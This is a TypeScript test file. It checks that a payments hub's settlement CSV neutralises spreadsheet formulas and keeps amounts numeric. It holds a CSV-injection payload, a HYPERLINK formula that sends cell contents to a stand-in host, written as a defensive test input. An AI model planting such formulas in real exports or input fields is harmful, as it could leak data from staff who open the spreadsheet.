/**
 * Issue 13.5 for the hub's CSV (SPEC §9 settlement report): a kiosk sends a transaction whose case
 * reference and slip are spreadsheet formulas; the CSV finance staff download shows them as text
 * (a leading `'`) and its amounts as numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Hub } from "../../../hub/main.ts";
import {
  get,
  type HubHarness,
  post,
  startHubHarness,
  startInProcessHub,
  TOKENS,
  transaction,
} from "../../helpers/hub-harness.ts";

const CASE = '=HYPERLINK("http://x.invalid/?"&A1,"OK")';
const SLIP = "-1/2026";

let h: HubHarness;
let hub: Hub;
let url: string;

beforeAll(async () => {
  h = await startHubHarness();
  ({ hub, url } = await startInProcessHub(h));
  const tx = transaction({ paidAt: "2026-11-21T09:00:00Z", total: 16_000, case: CASE, slip: SLIP });
  expect((await post(`${url}/transactions`, tx, { token: TOKENS.K01 })).status).toBe(201);
}, 120_000);

afterAll(async () => {
  await hub?.close();
  await h?.stop();
});

describe("hub settlement CSV", () => {
  it("neutralises a formula in a case reference or slip and keeps amounts numeric", async () => {
    const csv = await get(`${url}/api/offices/PZ1465/settlement?date=2026-11-21&format=csv`);
    expect(csv.status).toBe(200);
    expect(csv.text).toContain(`"'=HYPERLINK(""http://x.invalid/?""&A1,""OK"")"`);
    expect(csv.text).toContain(`,'${SLIP},`);
    expect(csv.text).not.toMatch(/(^|,)[=+\-@]/m);
    expect(csv.text).toMatch(/,143\.00,PLN,/);
  });
});
